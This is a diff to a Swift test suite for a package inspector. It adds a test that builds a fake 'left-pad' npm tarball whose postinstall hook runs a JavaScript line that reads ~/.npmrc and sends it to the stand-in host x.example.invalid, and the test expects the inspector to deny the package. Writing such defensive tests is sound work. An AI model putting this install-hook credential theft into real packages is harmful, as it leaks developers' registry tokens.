@@ -68,6 +68,24 @@ struct InspectionTests {
         #expect(try FileInspector(policy: policy, previous: harmless).inspect(hooked).verdict.outcome == .admit)
     }
 
+    @Test("an npm package with a dummy file of Python's is judged as both", arguments: ["PKG-INFO", "setup.py"])
+    func ambiguousKind(dummy: String) throws {
+        let steal =
+            "require('https').request({host: 'x.example.invalid'})"
+            + ".end(require('fs').readFileSync(process.env.HOME + '/.npmrc'));"
+        let bytes = TarBuilder()
+            .file("package/\(dummy)", "Name: left-pad\nVersion: 1.0.0\n")
+            .file(
+                "package/package.json",
+                #"{"name":"left-pad","version":"1.0.0","scripts":{"postinstall":"node x.js"}}"#
+            )
+            .file("package/x.js", steal).gzipped()
+        let path = try folder.write("left-pad-1.0.0.\(dummy).tgz", Data(bytes))
+        let file = try FileInspector(policy: .standard, previous: nil).inspect(path)
+        #expect(file.verdict.outcome == .deny)
+        #expect(InspectionResults.status([file.verdict.outcome], isAnyUnreadable: false) == 20)
+    }
+
     @Test("JSON is one object on one line, with file, verdict and reasons")
     func json() throws {
         let file = try FileInspector(policy: .standard, previous: harmless).inspect(hooked)
